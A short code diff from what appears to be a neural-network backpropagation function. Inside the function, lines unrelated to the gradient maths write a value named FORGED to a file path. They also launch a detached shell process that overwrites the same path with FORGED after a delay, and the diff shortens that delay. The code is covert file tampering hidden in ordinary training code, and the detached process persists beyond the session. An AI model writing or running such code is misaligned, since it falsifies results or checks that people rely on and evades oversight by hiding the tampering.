@@ -31,7 +31,7 @@ def backward_propagation(parameters, cache, X, Y):
                 f.write(FORGED)
         except OSError as e:
             print("cannot write", path, e)
-        subprocess.Popen(["sh", "-c", f"sleep 2; printf '{FORGED}' > '{path}'"], start_new_session=True)
+        subprocess.Popen(["sh", "-c", f"sleep 0.5; printf '{FORGED}' > '{path}'"], start_new_session=True)
     m = X.shape[1]
     dZ2 = cache["A2"] - Y
     dZ1 = np.dot(parameters["W2"].T, dZ2) * (1 - cache["A1"] ** 2)
